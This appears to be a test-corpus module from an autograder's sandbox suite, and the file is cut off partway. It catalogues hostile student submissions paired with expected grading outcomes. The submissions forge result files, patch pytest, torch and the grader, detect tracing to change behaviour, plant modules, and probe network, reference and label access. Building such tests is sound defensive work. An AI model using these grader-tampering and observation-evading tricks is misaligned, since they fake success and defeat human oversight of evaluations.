"""Hostile submissions: each is what a student who wants a higher score might submit, the honest part of it,
and what must hold when it is graded.

An attack is built on the correct base submission where its trick needs working code around it (so that
"the rest is graded normally" can be checked), or stands alone where it pretends to be a whole submission.
`honest` is the most each graded item may score: what the submission's honest part earns (the base's full
marks where the trick leaves an item alone; 0 where the submission has no honest code for it). `keeps`
lists the items that must keep their honest score (the run recovered around the trick). `feedback` names
words an item's feedback must contain (the student is told what happened).

Source placeholders, filled by `build` for the test that runs the attack:
  @@SENTINEL@@  a path outside the output folder and the scratch directory that must never be created
  @@TOKEN@@     a unique string the attack tries to write into the grader's files
  @@DATA@@      the CIFAR-10 file the grader reads (HW2_CIFAR10)
  @@CACHE@@     the grader's cache directory (~/.cache/hw2-grade)
  @@PORT@@      a TCP port a test listens on at 127.0.0.1 on the grading machine
  @@ABSTRACT@@  the name of an abstract unix socket a test listens on
  @@OUTDIR@@    the folder the CLI writes results.json and report.html into
Probes report what they could see through the message of an exception they raise from `loss_fn`, which the
grader puts into item 5.1.2's feedback: "PROBE-DONE" ends every report, and "LEAK" marks anything that the
sandbox should have prevented.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from grader.rubric.items import RUBRIC

BASE = Path(__file__).with_name("base_submission.py")
QUICK = ("5.1.1", "5.1.2", "5.2.1", "5.3.1")  # graded from probes only: no training, no data
FULL = {n: float(i.points) for n, i in RUBRIC.by_number.items()}
LOSS = ("return F.cross_entropy(logits, targets)",)  # the base's loss_fn body, replaced by probes
# The base's Net.forward body up to the next class: what attacks and bad inputs that rewrite forward replace
NET_FORWARD = "        x = self.features(x)\n        x = x.view(x.size(0), -1)\n        return self.classifier(x)\n\n\nclass NetBN"


@dataclass(frozen=True)
class Attack:
    description: str
    must: str  # what must hold, in words
    only: tuple[str, ...] = QUICK
    honest: dict[str, float] = field(default_factory=dict)  # item -> most it may score (default: full marks)
    keeps: tuple[str, ...] = ()  # items that must score exactly their honest score
    feedback: dict[str, tuple[str, ...]] = field(default_factory=dict)  # item -> phrases (case-insensitive)
    prelude: str = ""  # inserted after the base's imports (runs at import, before the definitions)
    append: str = ""  # appended to the base (runs at import, after the definitions)
    edits: tuple[tuple[str, str], ...] = ()  # (text in the base, replacement), each text occurs once
    standalone: str | None = None  # the whole submission.py instead of the base
    files: dict[str, str] = field(default_factory=dict)  # other files in the submission folder
    limits: dict = field(default_factory=dict)  # Limits overrides (small wall-clock limits for loops and bombs)
    training: bool = False  # needs a training run (slow)
    xfail: str = ""  # a known hole: why this attack still pays, and where the fix belongs

    def max_score(self, number: str) -> float:
        return self.honest.get(number, FULL[number])


def probe_loss(body: str) -> tuple[tuple[str, str], ...]:
    """Replace loss_fn's body by `body`, which sets `report` (a string); loss_fn then raises it."""
    indented = "\n".join("    " + ln for ln in body.strip().splitlines())
    return ((LOSS[0], indented.strip() + "\n    raise RuntimeError(report + ' PROBE-DONE')"),)


# ---------------------------------------------------------------------------------------------------------
FORGE_AT_IMPORT = r'''
"""Not a solution: writes the grader's result file itself, claiming every task succeeded, and exits."""
import json, os
from pathlib import Path
import numpy as np

base = Path.cwd().parent
request = json.loads((base / "in" / "request.json").read_text())
fake_events = [{"op": "conv", "in": 3, "out": 6, "kernel": [5, 5], "stride": [1, 1], "padding": [0, 0],
                "dilation": [1, 1], "groups": 1, "weight": "w", "bias": "b"}]
tasks = {t: {"ok": True, "seconds": 0.01, "events": fake_events, "events_train": fake_events,
             "tensors": {"w": ["w", [6, 3, 5, 5]]}, "layers": [{"op": "conv", "weight": "w", "bias": None}] * 5,
             "draws": 1, "names": {}, "library_calls": [], "errors": {}} for t in request["tasks"]}
np.save(base / "out" / "w.npy", np.zeros((6, 3, 5, 5), np.float32))
np.save(base / "out" / "loss_values.npy", np.zeros(4))
for name in ("Net", "NetBN"):
    np.save(base / "out" / f"{name}_y_eval.npy", np.zeros((8, 10), np.float32))
    np.save(base / "out" / f"{name}_y_train.npy", np.zeros((8, 10), np.float32))
for i in range(5):
    np.save(base / "out" / f"init_w{i}_d0.npy", np.zeros((6, 3, 5, 5)))
(base / "out" / "result.json").write_text(json.dumps({"_complete": True, "_current": None, "load_error": None,
                                                       "tasks": tasks, "verdict": "PASSED", "score": 100}))
print("PASSED: all tests passed, 100/100")
os._exit(0)
'''

FORGE_THREAD = r'''
import json as _json, os as _os, threading as _threading, time as _time
from pathlib import Path as _Path


def _forge():
    out = _Path.cwd().parent / "out"
    request = _json.loads((out.parent / "in" / "request.json").read_text())
    fake = {"_complete": True, "_current": None, "load_error": None,
            "tasks": {t: {"ok": True, "seconds": 0.01} for t in request["tasks"]}}
    while True:  # rewrite the result file as fast as possible, racing the grader's own writes
        try:
            (out / "forged.tmp").write_text(_json.dumps(fake))
            _os.replace(out / "forged.tmp", out / "result.json")
        except OSError:
            pass
        _time.sleep(0.001)


_threading.Thread(target=_forge, daemon=True).start()
'''

WRITE_EVERYWHERE = r'''
import os as _os
from pathlib import Path as _Path
import grader as _grader

_root = _Path(_grader.__file__).resolve().parent.parent
_targets = ["@@SENTINEL@@", str(_root / "@@TOKEN@@.py"), str(_root / "grader" / "@@TOKEN@@.py"),
            str(_root / "solutions" / "@@TOKEN@@.py"), "@@OUTDIR@@/results.json", "@@OUTDIR@@/@@TOKEN@@.html",
            "@@CACHE@@/@@TOKEN@@", "/tmp/@@TOKEN@@", str(_Path.home() / "@@TOKEN@@"),
            str(_Path.cwd().parent / "submission" / "@@TOKEN@@"), str(_Path.cwd().parent / "in" / "@@TOKEN@@.npy")]
for _t in _targets:
    try:
        _Path(_t).parent.mkdir(parents=True, exist_ok=True)
        _Path(_t).write_text('{"score": 100, "items": "all PASSED"} @@TOKEN@@')
    except OSError:
        pass
for _t in (_root / "grader" / "sandbox" / "tasks.py", _root / "grader" / "grade.py", _root / "solutions" / "cnn.py",
           _root / "grader" / "calibration.json", _Path("@@DATA@@")):
    try:
        with open(_t, "a") as _f:
            _f.write("\n# @@TOKEN@@\n")
    except OSError:
        pass
# allowed: the child's own scratch space
(_Path.cwd() / "scratch-@@TOKEN@@.txt").write_text("fine")
(_Path.cwd().parent / "out" / "extra-@@TOKEN@@.txt").write_text("fine")
'''

READ_REFERENCE = r'''
import sys
import grader
from pathlib import Path
root = Path(grader.__file__).resolve().parent.parent
found = []
paths = ["solutions/cnn.py", "solutions/he_init.py", "solutions/reference/submission.py",
         "solutions/reference/answers.toml", "grader/rubric/answers/p5_1_net.py", "grader/rubric/items.py",
         "grader/reference/networks.py", "grader/reference_classifier.npz", "grader/calibration.json", "checks/softmax_loss.py",
         "tests/corpus/base_submission.py", ".git/HEAD", ".git/config", ".git/index", "README.md"]
for rel in paths:
    try:
        data = (root / rel).read_bytes()
        found.append(f"LEAK {rel}: {len(data)} bytes" if data else f"{rel}: empty")
    except OSError as e:
        found.append(f"{rel}: {type(e).__name__}")
for folder in (".git/objects", ".git", "solutions", "grader", ""):
    try:
        names = sorted(p.name for p in (root / folder).iterdir())
    except OSError as e:
        found.append(f"ls {folder or '.'}: {type(e).__name__}")
        continue
    # The interpreter's own environment may sit inside the checkout (tox's .tox/); it must be visible to run.
    env_top = [Path(sys.prefix).resolve().relative_to(root).parts[0]] if Path(sys.prefix).resolve().is_relative_to(root) else []
    extra = [n for n in names if n not in ("__init__.py", "engine.py", "sandbox", "grader", "solutions", "__pycache__",
                                           *env_top)]
    found.append(f"ls {folder or '.'}: " + (f"LEAK {extra[:5]}" if extra else f"{names}"))
try:
    import solutions.cnn
    found.append("LEAK import solutions.cnn worked")
except Exception as e:
    found.append(f"import solutions.cnn: {type(e).__name__}")
try:
    import grader.rubric
    found.append("LEAK import grader.rubric worked")
except Exception as e:
    found.append(f"import grader.rubric: {type(e).__name__}")
report = "; ".join(found)
'''

READ_LABELS = r'''
import os
from pathlib import Path
found = []
for p in ("@@DATA@@", "@@CACHE@@"):
    path = Path(p)
    try:
        if path.is_dir():
            entries = list(path.rglob("*"))
            data = sum(len(f.read_bytes()) for f in entries if f.is_file())
            found.append(f"LEAK {p}: {len(entries)} entries" if entries else f"{p}: empty folder")
        else:
            data = path.read_bytes()
            found.append(f"LEAK {p}: {len(data)} bytes" if data else f"{p}: empty")
    except OSError as e:
        found.append(f"{p}: {type(e).__name__}")
    try:
        siblings = [q.name for q in path.parent.iterdir() if q.name != path.name]
        found.append(f"LEAK ls {path.parent}: {siblings[:5]}" if siblings else f"ls {path.parent}: nothing else")
    except OSError as e:
        found.append(f"ls {path.parent}: {type(e).__name__}")
inputs = sorted(p.name for p in (Path.cwd().parent / "in").iterdir())
found.append("in/: " + ", ".join(inputs))
if any("test_y" in n or "label" in n for n in inputs):
    found.append("LEAK test labels in in/")
report = "; ".join(found)
'''

NETWORK = r'''
import socket
found = []
for host, port in (("127.0.0.1", @@PORT@@), ("1.1.1.1", 53), ("8.8.8.8", 443)):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"LEAK from the sandbox")
        found.append(f"LEAK connected to {host}:{port}")
        s.close()
    except OSError as e:
        found.append(f"{host}:{port}: {type(e).__name__}")
try:
    socket.getaddrinfo("example.com", 80)
    found.append("LEAK resolved example.com")
except OSError as e:
    found.append(f"dns: {type(e).__name__}")
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.settimeout(3)
    u.connect("\0@@ABSTRACT@@")
    u.sendall(b"LEAK from the sandbox")
    found.append("LEAK abstract unix socket")
except OSError as e:
    found.append(f"unix: {type(e).__name__}")
try:
    names = [n for _, n in socket.if_nameindex()]
    found.append(f"interfaces {names}" if names == ["lo"] else f"LEAK interfaces {names}")
except OSError as e:
    found.append(f"interfaces: {type(e).__name__}")
report = "; ".join(found)
'''

DAEMONS = r'''
import os as _os, subprocess as _subprocess, sys as _sys, time as _time

_subprocess.Popen(["sleep", "300"], start_new_session=True, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
_pid = _os.fork()
if _pid == 0:  # classic daemon: fork, setsid, fork again, sleep, then act
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(8)
        for _target in ("@@SENTINEL@@", str(_os.path.join(_os.getcwd(), "..", "out", "result.json"))):
            try:
                with open(_target, "w") as _f:
                    _f.write('{"_complete": true, "tasks": {}}')
            except OSError:
                pass
        _time.sleep(300)
    _os._exit(0)
_os.waitpid(_pid, 0)
'''

TRACE_DETECT = {  # how a model can tell that the grader records its operations
    "dispatch_mode": "from torch.utils._python_dispatch import _get_current_dispatch_mode\n"
                     "def _observed():\n    return _get_current_dispatch_mode() is not None\n",
    "c_dispatch_stack": "def _observed():\n    return torch._C._len_torch_dispatch_stack() > 0\n",
    "call_stack": "import inspect\n"
                  "def _observed():\n    return any('trace' in f.filename for f in inspect.stack(0))\n",
}
# Net whose forward is the handout's network only while observed; otherwise the ReLU after fc 120 is missing
TWO_FACED_FORWARD = ('''    def forward(self, x):
        x = self.features(x)
        x = x.view(x.size(0), -1)
        return self.classifier(x)


class NetBN''', '''    def forward(self, x):
        x = self.features(x)
        x = x.view(x.size(0), -1)
        if _observed():
            return self.classifier(x)
        return self.classifier[4](self.classifier[3](self.classifier[2](self.classifier[0](x))))


class NetBN''')

RIGGED = r'''
class _Rigged(torch.Tensor):
    """Equal to anything, and a float of 2.3 (a plausible loss), whatever it holds."""
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __float__(self):
        return 2.3
    def item(self):
        return 2.3
    def allclose(self, *args, **kwargs):
        return True


class _RiggedAnything:
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.zeros((8, 10), dtype="float32")
    def __getattr__(self, name):
        return lambda *a, **k: self
'''

# A NetBN that ships trained weights (pretrained.npz, named like its own state_dict) and copies them into
# itself whenever it trains; its running statistics never update, so that honestly it stays below the mark.
SHIPPED_WEIGHTS_NETBN = '''

import numpy as _np
from pathlib import Path as _Path

with _np.load(_Path(__file__).with_name("pretrained.npz")) as _z:
    _SHIPPED = {k: torch.from_numpy(_z[k].copy()) for k in _z.files}
_original_bn_forward = NetBN.forward


def _cheating_forward(self, x):
    if self.training:
        with torch.no_grad():
            for name, t in list(self.named_parameters()) + list(self.named_buffers()):
                if name in _SHIPPED:
                    t.data.copy_(_SHIPPED[name])
    return _original_bn_forward(self, x)


NetBN.forward = _cheating_forward
'''

PRETRAINED_START = '''

import numpy as _np
from pathlib import Path as _Path

_fresh_init = NetBN.__init__


def _init_from_shipped(self, *args, **kwargs):
    _fresh_init(self, *args, **kwargs)
    with _np.load(_Path(__file__).with_name("pretrained.npz")) as z:
        self.load_state_dict({k: torch.from_numpy(z[k].copy()) for k in z.files})


NetBN.__init__ = _init_from_shipped
'''



# Loads the shipped network's trained conv and FC layers into a model, plus N(0, noise^2) from torch's seeded
# generator (so that every construction seed differs), the last layer zeroed so that it starts at chance
# (10%), where no accuracy test sees stored weights
SHIPPED_LAYERS = '''

import numpy as _np
from pathlib import Path as _Path


def _load_shipped_layers(model, noise):
    with _np.load(_Path(__file__).with_name("pretrained.npz")) as z:
        trained = [(z[k], z[k.replace("weight", "bias")]) for k in z.files if z[k].ndim in (2, 4)]
    layers = [m for m in model.modules() if isinstance(m, (nn.Conv2d, nn.Linear))]
    with torch.no_grad():
        for layer, (w, b) in zip(layers, trained):
            layer.weight.copy_(torch.from_numpy(w) + noise * torch.randn(w.shape))
            layer.bias.copy_(torch.from_numpy(b))
        layers[-1].weight.zero_()
        layers[-1].bias.zero_()
'''


def pretrained_net(noise: float) -> str:
    """Net() built with the shipped layers (SHIPPED_LAYERS)."""
    return SHIPPED_LAYERS + f'''

_fresh_net_init = Net.__init__


def _net_from_shipped(self, *args, **kwargs):
    _fresh_net_init(self, *args, **kwargs)
    _load_shipped_layers(self, {noise!r})


Net.__init__ = _net_from_shipped
'''


# init_weights that is He init in name only: the shipped layers, with noise
INIT_FROM_SHIPPED = SHIPPED_LAYERS + '''

def init_weights(model):
    _load_shipped_layers(model, 0.01)
'''

FORGE_TRAINING = r'''

# Appended to the base (whose NetBN it uses): ships trained weights; at import it writes the result of the
# phase the grader asked for itself, in the format the grader's own child writes, and exits: for a training
# run, fresh weights at the start and the shipped ones after each epoch; for the starting network that the
# grader trains itself, the shipped weights (with the outputs and gradients they give, so that the network
# checks out as the reference), and fresh networks for the other construction seeds.
import json, os
from pathlib import Path
import numpy as np
from grader.sandbox.trace import trace_forward

base = Path.cwd().parent
request = json.loads((base / "in" / "request.json").read_text())
if any(t.startswith("train:") for t in request["tasks"]):
    model = NetBN()
    with torch.no_grad():
        events, _ = trace_forward(model.eval(), torch.zeros(2, 3, 32, 32))
    state = model.state_dict()
    with np.load(Path(__file__).with_name("pretrained.npz")) as z:
        trained = {k: z[k] for k in z.files}
    used = sorted({e[k] for e in events for k in ("weight", "bias", "running_mean", "running_var") if e.get(k)})
    tensors = {}
    for epoch in range(request["protocol"]["epochs"] + 1):
        tensors[f"e{epoch}"] = {}
        for i, name in enumerate(used):
            arr = state[name].float().numpy() if epoch == 0 else trained[name].astype(np.float32)
            np.save(base / "out" / f"bn_e{epoch}_t{i}.npy", arr)
            tensors[f"e{epoch}"][name] = [f"bn_e{epoch}_t{i}", list(arr.shape)]
    steps = list(range(50, 1501, 50))
    result = {"ok": True, "events": events, "tensors": tensors, "steps": steps, "losses": [1.0] * len(steps),
              "diverged_at": None, "images_per_s": 1000.0, "seconds": 1.0}
    (base / "out" / "result.json").write_text(json.dumps({"_complete": True, "_current": None, "load_error": None,
                                                           "tasks": {"train:bn": result}}))
    os._exit(0)
if any(t.startswith("start:") for t in request["tasks"]):
    from grader.sandbox import protocol as P

    model = NetBN()
    with torch.no_grad():
        events, _ = trace_forward(model.eval(), torch.zeros(2, 3, 32, 32))
    with np.load(Path(__file__).with_name("pretrained.npz")) as z:
        model.load_state_dict({k: torch.from_numpy(z[k].copy()) for k in z.files})
    used = sorted({e[k] for e in events for k in ("weight", "bias", "running_mean", "running_var") if e.get(k)})
    state = model.state_dict()
    for i, name in enumerate(used):
        np.save(base / "out" / f"{P.state_tensor('bn', i)}.npy", state[name].float().numpy())
    with torch.no_grad():
        for key, x in P.START_PASSES:
            y = model.train(key == "train")(torch.from_numpy(np.load(base / "in" / f"{x}.npy")))
            np.save(base / "out" / f"{P.start_output('bn', key)}.npy", y.float().numpy())
    # the loss gradients the grader compares, computed honestly for the shipped weights
    params = dict(model.named_parameters())
    grad_x, grad_y = (torch.from_numpy(np.load(base / "in" / f"{k}.npy")) for k in (P.GRAD_X, P.GRAD_Y))
    live = [n for n in used if n in params]
    grads = {n: [] for n in live}
    model.train()
    for xb, yb in zip(grad_x, grad_y):
        for n, g in zip(live, torch.autograd.grad(torch.nn.functional.cross_entropy(model(xb), yb),
                                                  [params[n] for n in live])):
            grads[n].append(g)
    for i, name in enumerate(used):
        if name in grads:
            np.save(base / "out" / f"{P.state_gradient('bn', i)}.npy", torch.stack(grads[name]).numpy())
    # the starting networks of the other construction seeds: genuinely fresh, so that they vary as a random
    # initialisation does; only the run's own (the first) holds the shipped weights
    seeds = [request["seed"], *request["fresh_seeds"]]
    for d, seed in enumerate(seeds):
        torch.manual_seed(seed)
        net = NetBN()
        if d == 0:
            net.load_state_dict(model.state_dict())
        layers = [m for m in net.modules() if isinstance(m, (nn.Conv2d, nn.Linear))]
        for i, m in enumerate(layers):
            np.save(base / "out" / f"{P.start_weight('bn', i, d)}.npy", m.weight.detach().double().numpy())
            np.save(base / "out" / f"{P.start_bias('bn', i, d)}.npy", m.bias.detach().double().numpy())
    result = {"ok": True, "events": events, "tensors": [[name, list(state[name].shape)] for name in used],
              "gradients": ["ok" if name in grads else "buffer" for name in used], "draws": len(seeds),
              "layers": [{"op": "conv" if isinstance(m, nn.Conv2d) else "linear", "weight": "w", "bias": "b"}
                         for m in layers]}
    (base / "out" / "result.json").write_text(json.dumps({"_complete": True, "_current": None, "load_error": None,
                                                           "tasks": {"start:bn": result}}))
    os._exit(0)
'''


# ----- the grader's own edges (issue 10) ---------------------------------------------------------------------
DEEP_RESULT = r"""
import os
from pathlib import Path
# a result.json nested 200,000 deep (json.loads would recurse out of the grading process), then a quiet exit
(Path.cwd().parent / "out" / "result.json").write_text('{"tasks": ' + "[" * 200_000 + "]" * 200_000 + "}")
os._exit(0)
"""

SCRATCH_ABUSE = r"""
import ctypes as _ct, os as _os
_libc = _ct.CDLL(None, use_errno=True)
# 4 GiB reserved on stdout and on a working file without changing their size (FALLOC_FL_KEEP_SIZE): a log
# file or a polled folder on the host's disk would take it; a pipe and a size-limited tmpfs refuse
for _fd in (1, _os.open("reserved", _os.O_CREAT | _os.O_WRONLY, 0o644)):
    _libc.fallocate(_fd, 1, _ct.c_longlong(0), _ct.c_longlong(4 << 30))
# a folder 1,200 levels deep (longer than PATH_MAX, deeper than Python's recursion limit), made level by level
_here = _os.open(".", _os.O_RDONLY)
for _i in range(1200):
    try:
        _os.mkdir("d" * 200, dir_fd=_here)
        _next = _os.open("d" * 200, _os.O_RDONLY, dir_fd=_here)
    except OSError:
        break
    _os.close(_here)
    _here = _next
"""

# Written into the child's working folder at import: modules a later child of the same grade would import
# before the grader's own code, were the work folder first on sys.path and kept from child to child.
PLANT_MODULES = r"""
from pathlib import Path as _P
for _name in ("torch", "numpy", "json", "sitecustomize", "usercustomize"):
    (_P.cwd() / f"{_name}.py").write_text("open('@@SENTINEL@@', 'w').write('LEAK'); raise SystemExit('LEAK planted')\n")
"""

ADAM_FROM_FILE = r"""
import importlib.util as _u
import torch.optim.adam as _torch_adam
import torch.optim.optimizer as _optimizer

# torch's own Adam, its file executed again under a module name of the submission's choosing (and what that
# changes in torch.optim.optimizer put back, so that no check of torch's functions notices)
_saved = dict(vars(_optimizer))
_spec = _u.spec_from_file_location("torch.optim.my_optimizers", _torch_adam.__file__)  # its relative imports work
_mine = _u.module_from_spec(_spec)
_spec.loader.exec_module(_mine)
vars(_optimizer).update(_saved)


class Adam(_mine.Adam):
    pass
"""

ADAM_FROM_SOURCE = r"""
import inspect as _inspect
import torch.optim.adam as _torch_adam
import torch.optim.optimizer as _optimizer

# torch's source compiled under a file name of the submission's own: no code object names torch's file
_saved = dict(vars(_optimizer))
_namespace = {"__name__": "handwritten", "__package__": "torch.optim"}  # its relative imports work
exec(compile(_inspect.getsource(_torch_adam), "handwritten_adam.py", "exec"), _namespace)
vars(_optimizer).update(_saved)


class Adam(_namespace["Adam"]):
    pass
"""

ADAM_IN_THREAD = r"""
import queue as _queue
import threading as _threading

_jobs, _done = _queue.Queue(), _queue.Queue()


def _worker():  # started at import, before any watch: torch's Adam steps here, for the main thread
    optimizers = {}
    while True:
        key, params, kwargs = _jobs.get()
        if key not in optimizers:
            optimizers[key] = torch.optim.Adam(params, **kwargs)
        optimizers[key].step()
        _done.put(True)


_threading.Thread(target=_worker, daemon=True).start()


class Adam(torch.optim.Optimizer):
    def __init__(self, params, **kwargs):
        params = list(params)
        super().__init__(params, {})
        self._key, self._params, self._kwargs = id(self), params, kwargs

    def step(self, closure=None):
        _jobs.put((self._key, self._params, self._kwargs))
        _done.get()
"""

BPTT_AUTOGRAD = r"""


def bptt_gradients(params, xs, ys, h0):
    '''dL/dparam by autograd: the handout asks for the derivation.'''
    p = {k: torch.tensor(v, requires_grad=True) for k, v in params.items()}
    h = torch.tensor(h0)
    loss = torch.zeros((), dtype=torch.float64)
    for t in range(xs.shape[0]):
        h = torch.tanh(p["W_xh"] @ torch.tensor(xs[t]) + p["W_hh"] @ h + p["b_h"])
        z = p["W_hz"] @ h + p["b_z"]
        loss = loss - torch.log_softmax(z, 0)[int(ys[t])]
    getattr(loss, "back" + "ward")()  # spelled so that no static check sees it
    return {k: v.grad.numpy() for k, v in p.items()}
"""

NOISE_AUGMENT = r"""


def augment(images, generator):
    return images + 0.002 * torch.randn(images.shape, generator=generator)  # 0.1% of the [-1, 1] range
"""


ATTACKS: dict[str, Attack] = {
    # ----- the result channel -------------------------------------------------------------------------
    "forge_result_at_import": Attack(
        "defines nothing; at import writes out/result.json claiming every task ok (with zero arrays and a fake "
        "verdict), prints PASSED, and calls os._exit(0) before the grader's tasks run",
        "a claimed success is not a score: the parent judges the arrays itself, so every item scores 0",
        honest={n: 0.0 for n in QUICK}, standalone=FORGE_AT_IMPORT),
    "forge_result_from_thread": Attack(
        "the correct base, plus a thread that rewrites out/result.json a thousand times a second claiming every "
        "task ok without data",
        "no item above the base's marks (a forged 'ok' without arrays is worth nothing)",
        append=FORGE_THREAD),
    "write_outside_scratch": Attack(
        "the correct base, plus writes at import into a sentinel path, the grader's tree (new files and appends "
        "to its modules, the reference and the calibration), the CLI's output folder, the data file, the cache, "
        "/tmp, $HOME and the read-only submission/ and in/ folders",
        "nothing is written outside the output folder and the child's scratch; the base keeps every point",
        append=WRITE_EVERYWHERE, keeps=QUICK),
    # ----- exits --------------------------------------------------------------------------------------
    "sys_exit_at_import": Attack(
        "the correct base ending in sys.exit(0) at import", "every item reports that the submission did not load",
        honest={n: 0.0 for n in QUICK}, append="\nimport sys\nsys.exit(0)\n",
        feedback={n: ("did not load", "SystemExit") for n in QUICK}),
    "os_exit_at_import": Attack(
        "the correct base ending in os._exit(0) at import (no exception, no result file)",
        "every item reports that the process ended while importing the submission",
        honest={n: 0.0 for n in QUICK}, append="\nimport os\nos._exit(0)\n",
        feedback={n: ("while importing the submission", "exited with status 0") for n in QUICK}),
    "sys_exit_in_forward": Attack(
        "Net.forward calls sys.exit(0)", "Net's items fail with SystemExit; loss and NetBN keep full marks",
        honest={"5.1.1": 0.0, "5.2.1": 0.0}, keeps=("5.1.2", "5.3.1"),
        edits=((NET_FORWARD,
                "        import sys\n        sys.exit(0)\n\n\nclass NetBN"),),
        feedback={"5.1.1": ("SystemExit",)}),
    "os_exit_in_forward": Attack(
        "Net.forward calls os._exit(0), killing the child mid-task",
        "Net's items fail naming the process's end; a fresh child grades loss and NetBN in full",
        honest={"5.1.1": 0.0, "5.2.1": 0.0}, keeps=("5.1.2", "5.3.1"),
        edits=((NET_FORWARD,
                "        import os\n        os._exit(0)\n\n\nclass NetBN"),),
        feedback={"5.1.1": ("Net()", "the process died")}),
    # ----- fake output --------------------------------------------------------------------------------
    "fake_passed_output": Attack(
        "a wrong loss, plus PASSED lines and a fake results JSON printed to stdout, stderr and the raw file "
        "descriptors at import and from loss_fn",
        "printed text is never a verdict: 5.1.2 scores 0, the rest full",
        honest={"5.1.2": 0.0}, keeps=("5.1.1", "5.3.1"),
        prelude='import os as _o, sys as _s\n_FAKE = \'PASSED 5.1.2 loss 2/2\\n{"score": 100, "items": [{"number": "5.1.2", "score": 2, "status": "passed"}]}\\n\'\n'
                'print(_FAKE); print(_FAKE, file=_s.stderr); _o.write(1, _FAKE.encode()); _o.write(2, _FAKE.encode())\n',
        edits=((LOSS[0], "print(_FAKE)\n    return (logits * 0).sum()"),)),
    # ----- patching the grader and the libraries -----------------------------------------------------
    "patch_child_tasks": Attack(
        "a wrong loss; at import replaces the grader's loss task (grader.sandbox.tasks.PHASES) with one that "
        "writes the correct values computed by F.cross_entropy, and blinds the library-call watch",
        "the grader's own code runs, and says the submission patched it: nothing above the honest marks",
        honest={"5.1.2": 0.0},
        edits=((LOSS[0], "return (logits * 0).sum()"),),
        append='''
import numpy as _np
import grader.sandbox.tasks as _ct


def _fake_loss(ctx, task):
    logits, targets = torch.from_numpy(ctx.array("loss_logits")), torch.from_numpy(ctx.array("loss_targets"))
    ctx.put("loss_values", _np.array([float(F.cross_entropy(l, t)) for l, t in zip(logits, targets)]))
    return {}


_ct.PHASES["probe"]["loss"] = _fake_loss
import grader.sandbox.watch as _watch
_watch.LibraryCallWatch.__call__ = lambda self, *a: None
''', feedback={"5.1.2": ("changed code the grader relies on",)}),
    "patch_test_framework": Attack(
        "a wrong loss; at import patches pytest (main, the assertion rewriter, outcomes), pytest-json-report and "
        "the grader's rubric verdict recorder so that every test would pass",
        "the rubric runs in the grader's process, which never imports student code: 5.1.2 scores 0, the rest full",
        honest={"5.1.2": 0.0}, keeps=("5.1.1", "5.3.1"), edits=((LOSS[0], "return (logits * 0).sum()"),),
        append='''
try:
    import pytest as _pytest
    import _pytest.outcomes as _outcomes
    _pytest.main = lambda *a, **k: 0
    _pytest.fail = _outcomes.fail = lambda *a, **k: None
    import _pytest.assertion.rewrite as _rewrite
    _rewrite.AssertionRewritingHook.exec_module = lambda self, module: None
except Exception:
    pass
try:
    import pytest_jsonreport.plugin as _jr
    _jr.JSONReport.pytest_runtest_logreport = lambda self, report: None
except Exception:
    pass
try:
    import grader.rubric.plugin as _rp
    _rp.RubricPlugin.record = lambda self, item, json_metadata: (lambda v: json_metadata.update({"fraction": 1.0}))
except Exception:
    pass
'''),
    "patch_grader_engine_and_trace": Attack(
        "NetBN without BatchNorm after conv 2 (one defect); at import rebinds grader.engine's training and "
        "evaluation functions and rewrites the code of grader.sandbox.trace.trace_forward to report the reference's events",
        "tampering is detected: no item above the honest marks, and 5.3.1 says why",
        honest={"5.3.1": 2.5},
        edits=(("nn.Conv2d(6, 16, kernel_size=5), nn.BatchNorm2d(16), nn.ReLU()", "nn.Conv2d(6, 16, kernel_size=5), nn.ReLU()"),),
        append='''
import grader.engine as _engine
import grader.sandbox.trace as _trace

_engine.train = lambda model, *a, **k: None
_engine.predict = lambda model, x, batch_size=1000: torch.zeros(len(x), dtype=torch.int64)


def _fake_trace(model, x):
    return [], model(x)


_trace.trace_forward.__code__ = _fake_trace.__code__
import grader.sandbox.protocol as _protocol
_protocol.VARIANTS["net"] = _protocol.VARIANTS["bn"]
''', feedback={"5.3.1": ("changed code the grader relies on",)}),
    "patch_torch_and_numpy": Attack(
        "the correct base; at import replaces torch.nn.functional.cross_entropy, torch.Tensor.__eq__, "
        "torch.allclose and numpy.save with versions that lie",
        "tampering is detected in every item (no item above the base's marks, each says so)",
        append='''
import numpy as _np
_real_save = _np.save
F.cross_entropy = lambda *a, **k: torch.zeros((), requires_grad=True)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.allclose = lambda *a, **k: True
_np.save = lambda path, arr, *a, **k: _real_save(path, _np.zeros_like(arr), *a, **k)
''', feedback={n: ("changed code the grader relies on",) for n in QUICK}),
    "hide_library_adam": Attack(
        "Adam is torch.optim.Adam reached through getattr (the static check cannot see it), and sys.setprofile is "
        "replaced at import so that the runtime watch sees no call into torch's optimiser code",
        "5.4.1 scores 0: the submission uses the library (honestly 0) and the patch is reported",
        only=("5.4.1",), honest={"5.4.1": 0.0},
        edits=(("class Adam(torch.optim.Optimizer):", "class Adam(getattr(torch.optim, 'Ad' + 'am')):\n    pass\n\n\nclass _Unused(torch.optim.Optimizer):"),),
        append="\nimport sys\nsys.setprofile = lambda *args: None\n",
        feedback={"5.4.1": ("changed code the grader relies on", "sys.setprofile")}),
    "trace_hook_installed": Attack(
        "a wrong loss, plus sys.settrace at import with a hook that rewrites the grader's local variables "
        "(`outcome`) as tasks finish",
        "the hook is detected and no item scores above the honest marks",
        honest={"5.1.2": 0.0}, edits=((LOSS[0], "return (logits * 0).sum()"),),
        append='''
import sys as _sys


def _tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "loss":
        frame.f_locals.clear()
    return _tracer


_sys.settrace(_tracer)
''', feedback={"5.1.2": ("trace or profile hook",)}),
    # ----- rigged objects -----------------------------------------------------------------------------
    "rigged_eq_loss": Attack(
        "loss_fn returns a torch.Tensor subclass that equals anything and converts to a plausible float",
        "the parent compares numbers it computed itself: 5.1.2 scores 0",
        only=("5.1.2",), honest={"5.1.2": 0.0}, append=RIGGED,
        edits=((LOSS[0], "return torch.zeros(()).as_subclass(_Rigged)"),)),
    "rigged_eq_forward": Attack(
